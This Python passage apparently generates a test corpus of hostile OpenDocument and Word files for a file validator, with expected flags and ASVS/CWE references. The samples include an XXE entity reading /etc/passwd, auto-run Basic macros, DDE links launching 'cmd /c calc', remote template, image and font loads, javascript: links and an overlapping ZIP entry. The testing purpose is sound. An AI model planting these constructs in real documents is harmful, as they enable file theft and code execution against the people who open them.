    group.hostile("docx/flat-opc.docx", b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'/>", "unknown_kind|damaged", RUNS, "Word's flat XML, which opens in Word by its first line")
    group.hostile("docx/rtf-as-docx.docx", b"{\\rtf1{\\object\\objdata 0105}}", "unknown_kind|damaged|extension_disagrees", RUNS, "an RTF with an object under the name of a document: Word opens it as RTF")
    group.hostile("docx/html-as-docx.docx", b"<html><script>alert(1)</script></html>", "unknown_kind|damaged", RUNS, "a page under the name of a document: Word opens it as a page")


def overlapping(entries: list) -> bytes:
    big = Entry("word/media/a.bmp", b"\0" * 100000)
    shadow = Entry("word/media/b.bmp", b"\0" * 100000, only_central=True, **{"central.offset": 0})
    base = archive([*entries, big])
    place = base.index(b"word/media/a.bmp") - 30
    shadow.lies["central.offset"] = place
    return archive([*entries, big, shadow])


MIME = {"odt": "application/vnd.oasis.opendocument.text", "ods": "application/vnd.oasis.opendocument.spreadsheet", "odp": "application/vnd.oasis.opendocument.presentation"}
BODY = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
SPACES = "".join(f" xmlns:{short}='urn:oasis:names:tc:opendocument:xmlns:{long}:1.0'" for short, long in [("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("style", "style"), ("script", "script"), ("presentation", "presentation"), ("form", "form"), ("meta", "meta"), ("anim", "animation"), ("svg", "svg-compatible")]) + " xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:dom='http://www.w3.org/2001/xml-events' xmlns:xforms='http://www.w3.org/2002/xforms'"


def odf(kind: str, body: str = "", more: dict | None = None, before: str = "", manifest: str = "", content: str = "") -> bytes:
    inner = content or f"<?xml version='1.0' encoding='UTF-8'?><office:document-content{SPACES} office:version='1.3'>{before}<office:body><office:{BODY[kind]}>{body}</office:{BODY[kind]}></office:body></office:document-content>"
    listed = "".join(f"<manifest:file-entry manifest:full-path='{name}' manifest:media-type='text/xml'/>" for name in ["content.xml", *(more or {})])
    whole = {"mimetype": MIME[kind], "content.xml": inner,
             "META-INF/manifest.xml": f"<?xml version='1.0'?><manifest:manifest xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'><manifest:file-entry manifest:full-path='/' manifest:media-type='{MIME[kind]}'/>{listed}{manifest}</manifest:manifest>"}
    whole.update(more or {})
    return of(whole)


def open_document(group):
    def put(name, what, words=EITHER, kind="odt", rule=RUNS, **options):
        group.hostile(f"{kind}/{name}.{kind}", odf(kind, **options), words, rule, what)

    listener = "<office:event-listeners><script:event-listener script:language='ooo:script' script:event-name='dom:load' xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document'/></office:event-listeners>"
    for kind in MIME:
        put("event-listener", "a macro on opening", ACTIVE, kind, before=f"<office:scripts>{listener}</office:scripts>")
        put("basic", "a library of Basic", ACTIVE, kind, more={"Basic/Standard/Module1.xml": "<script:module xmlns:script='http://openoffice.org/2000/script' script:name='Module1'>Sub Main</script:module>"})
        put("python-script", "a script in Python", ACTIVE, kind, more={"Scripts/python/a.py": "import os"})
        put("inline-script", "a script in the content", ACTIVE, kind, before="<office:scripts><office:script script:language='ooo:Basic'>Sub Main</office:script></office:scripts>")
        put("encrypted", "an encrypted part", "encrypted", kind, manifest="<manifest:file-entry manifest:full-path='a.xml' manifest:media-type='text/xml' manifest:size='1'><manifest:encryption-data manifest:checksum-type='SHA1/1K' manifest:checksum='x'><manifest:algorithm manifest:algorithm-name='Blowfish CFB' manifest:initialisation-vector='x'/></manifest:encryption-data></manifest:file-entry>")
        put("program-inside", "an embedded program", ACTIVE, kind, more={"Pictures/setup.exe": PROGRAM})
        put("ole-inside", "an OLE object", ACTIVE, kind, more={"Object 1": OLE}, body="<draw:frame><draw:object-ole xlink:href='./Object 1' xlink:actuate='onLoad'/></draw:frame>")
        put("entity", "an external entity", "external|damaged", kind, rule="ASVS V1.5.1, CWE-611", content=f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><office:document-content{SPACES}>&x;</office:document-content>")
        put("template", "a template of another host that is loaded on opening", EXTERNAL, kind, rule=LOADS, more={"meta.xml": f"<?xml version='1.0'?><office:document-meta{SPACES}><office:meta><meta:template xlink:href='http://host.example/a.ott' xlink:actuate='onRequest'/><meta:auto-reload xlink:href='http://host.example/a' meta:delay='PT1S' xlink:actuate='onLoad'/></office:meta></office:document-meta>"})
        for name, target in [("http", "http://host.example/a.png"), ("file", "file:///etc/passwd"), ("unc", "//host/share/a.png"), ("file-host", "file://host/share/a.png"), ("smb", "smb://host/a.png"), ("entity", "h&#116;tp://host.example/a.png"), ("parent", "../../../../etc/passwd"), ("backslash", "\\\\host\\share\\a.png")]:
            put(f"image-{name}", f"a picture from elsewhere: {name}", EITHER if name == "smb" else EXTERNAL, kind, rule=LOADS, body=f"<draw:frame><draw:image xlink:href='{target}' xlink:type='simple' xlink:show='embed' xlink:actuate='onLoad'/></draw:frame>")
    put("image-prefix", "another prefix of XLink", EXTERNAL, rule=LOADS, body="<draw:frame><draw:image xmlns:q='http://www.w3.org/1999/xlink' q:href='http://host.example/a.png' q:actuate='onLoad'/></draw:frame>")
    put("image-no-actuate", "a picture from elsewhere without xlink:actuate", EXTERNAL, rule=LOADS, body="<draw:frame><draw:image xlink:href='http://host.example/a.png'/></draw:frame>")
    put("image-utf-16", "a picture from elsewhere, in UTF-16", "external|damaged", rule=LOADS, content=f"<?xml version='1.0' encoding='UTF-16'?><office:document-content{SPACES}><draw:image xlink:href='http://host.example/a.png'/></office:document-content>".encode("utf-16"))
    for name, body in [
        ("section-file", "<text:section text:name='a'><text:section-source xlink:href='file:///etc/passwd' text:filter-name='Text'/></text:section>"),
        ("section-http", "<text:section text:name='a'><text:section-source xlink:href='http://host.example/a.odt'/></text:section>"),
        ("section-dde", "<text:section text:name='a'><office:dde-source office:dde-application='soffice' office:dde-topic='/etc/passwd' office:dde-item='a'/></text:section>"),
        ("dde-connection", "<text:dde-connection-decls><text:dde-connection-decl office:name='a' office:dde-application='cmd' office:dde-topic='/c calc' office:dde-item='a' office:automatic-update='true'/></text:dde-connection-decls>"),
        ("plugin", "<draw:frame><draw:plugin xlink:href='http://host.example/a.swf' draw:mime-type='application/x-shockwave-flash' xlink:actuate='onLoad'/></draw:frame>"),
        ("applet", "<draw:frame><draw:applet xlink:href='http://host.example/' draw:code='A.class' xlink:actuate='onLoad'/></draw:frame>"),
        ("floating-frame", "<draw:frame><draw:floating-frame xlink:href='http://host.example/a.html' xlink:actuate='onLoad'/></draw:frame>"),
        ("object-elsewhere", "<draw:frame><draw:object xlink:href='http://host.example/a.odt' xlink:actuate='onLoad'/></draw:frame>"),
        ("form-submit", "<office:forms><form:form xlink:href='http://host.example/' form:method='post' form:target-frame=''><form:connection-resource xlink:href='sdbc:odbc:a'/></form:form></office:forms>"),
        ("form-script", "<office:forms><form:form><form:button form:button-type='url' xlink:href='vnd.sun.star.script:a$b?language=Python&amp;location=user'/></form:form></office:forms>"),
        ("xforms", "<office:forms><xforms:model><xforms:instance src='http://host.example/a.xml'/><xforms:submission action='http://host.example/'/></xforms:model></office:forms>"),
        ("link-macro", "<text:p><text:a xlink:href='macro:///Standard.Module1.Main'>a</text:a></text:p>"),
        ("link-script", "<text:p><text:a xlink:href='javascript:alert(1)'>a</text:a></text:p>"),
        ("link-star-script", "<text:p><text:a xlink:href='vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share'>a</text:a></text:p>"),
        ("link-uno", "<text:p><text:a xlink:href='.uno:RunMacro'>a</text:a></text:p>"),
        ("link-vnd-expand", "<text:p><text:a xlink:href='vnd.sun.star.expand:$BRAND_BASE_DIR/a'>a</text:a></text:p>"),
        ("script-field", "<text:p><text:script script:language='JavaScript'>alert(1)</text:script></text:p>"),
        ("execute-macro-field", "<text:p><text:execute-macro text:name='Standard.Module1.Main'/></text:p>"),
    ]:
        put(name, f"{name.replace('-', ' ')} in a text", words="external|active_content", body=body)
    for name, body in [
        ("table-source", "<table:table table:name='a'><table:table-source xlink:href='http://host.example/a.ods' table:refresh-delay='PT1S'/></table:table>"),
        ("cell-range-source", "<table:table table:name='a'><table:table-row><table:table-cell><table:cell-range-source xlink:href='http://host.example/a.html' table:name='x' table:last-column-spanned='1' table:last-row-spanned='1'/></table:table-cell></table:table-row></table:table>"),
        ("dde-formula", "<table:table table:name='a'><table:table-row><table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)'/></table:table-row></table:table>"),
        ("dde-links", "<table:dde-links><table:dde-link><office:dde-source office:dde-application='cmd' office:dde-topic='/c calc' office:dde-item='a' office:automatic-update='true'/><table:table/></table:dde-link></table:dde-links>"),
        ("webservice-formula", "<table:table table:name='a'><table:table-row><table:table-cell table:formula='of:=WEBSERVICE(&quot;http://host.example/&quot;)'/></table:table-row></table:table>"),
        ("external-reference", "<table:table table:name='a'><table:table-row><table:table-cell table:formula=\"of:='file://host/share/a.ods'#$Sheet1.A1\"/></table:table-row></table:table>"),
        ("database-source", "<table:database-ranges><table:database-range table:name='a'><table:database-source-sql table:database-name='x' table:sql-statement='SELECT 1'/></table:database-range></table:database-ranges>"),
    ]:
        put(name, f"{name.replace('-', ' ')} in a table", kind="ods", body=body)
    for name, body in [
        ("execute", "<draw:page><draw:rect><office:event-listeners><presentation:event-listener script:event-name='dom:click' presentation:action='execute' xlink:href='file:///usr/bin/xcalc'/></office:event-listeners></draw:rect></draw:page>"),
        ("execute-macro", "<draw:page><draw:rect><office:event-listeners><script:event-listener script:event-name='dom:click' script:language='ooo:script' xlink:href='vnd.sun.star.script:a.b.c?language=Basic&amp;location=application'/></office:event-listeners></draw:rect></draw:page>"),
        ("verb", "<draw:page><draw:rect><office:event-listeners><presentation:event-listener script:event-name='dom:click' presentation:action='verb' presentation:verb='0'/></office:event-listeners></draw:rect></draw:page>"),
        ("media-elsewhere", "<draw:page><draw:frame><draw:plugin xlink:href='file://host/share/a.mp4' draw:mime-type='application/vnd.sun.star.media'/></draw:frame></draw:page>"),
        ("sound-elsewhere", "<draw:page><anim:par><anim:audio xlink:href='http://host.example/a.wav'/></anim:par></draw:page>"),
    ]:
        put(name, f"{name.replace('-', ' ')} in slides", kind="odp", body=body)
    styles = f"<?xml version='1.0'?><office:document-styles{SPACES}><office:styles><draw:fill-image draw:name='a' xlink:href='http://host.example/a.png' xlink:actuate='onLoad'/></office:styles></office:document-styles>"
    put("fill-image", "a background of another host in the styles", EXTERNAL, rule=LOADS, more={"styles.xml": styles})
    put("font-elsewhere", "a font of another host", EXTERNAL, rule=LOADS, before="<office:font-face-decls><style:font-face style:name='a'><svg:font-face-src><svg:font-face-uri xlink:href='http://host.example/a.ttf'/></svg:font-face-src></style:font-face></office:font-face-decls>")
    put("nested-object", "a macro in an object inside", ACTIVE, more={"Object 1/content.xml": f"<?xml version='1.0'?><office:document-content{SPACES}>{listener}</office:document-content>"})
    group.hostile("odt/mimetype-differs.odt", of({"mimetype": MIME["ods"], "content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"}), "extension_disagrees|unknown_kind|damaged", "ASVS V5.2.2, CWE-646", "a table under the name of a text")
    group.hostile("odt/no-mimetype.odt", of({"content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"}), "unknown_kind|damaged|extension_disagrees", "ASVS V5.2.2, CWE-20", "no mimetype")
    group.hostile("odt/database.odt", of({"mimetype": "application/vnd.oasis.opendocument.base", "content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"}), "unknown_kind|damaged|extension_disagrees", RUNS, "a database under the name of a text")
    group.hostile("odt/flat.odt", f"<?xml version='1.0'?><office:document{SPACES} office:mimetype='{MIME['odt']}'>{listener}</office:document>".encode(), "unknown_kind|damaged", RUNS, "flat XML with a macro under the name of a text")


ALL = [macros, fields, elsewhere, xml, containers, open_document]
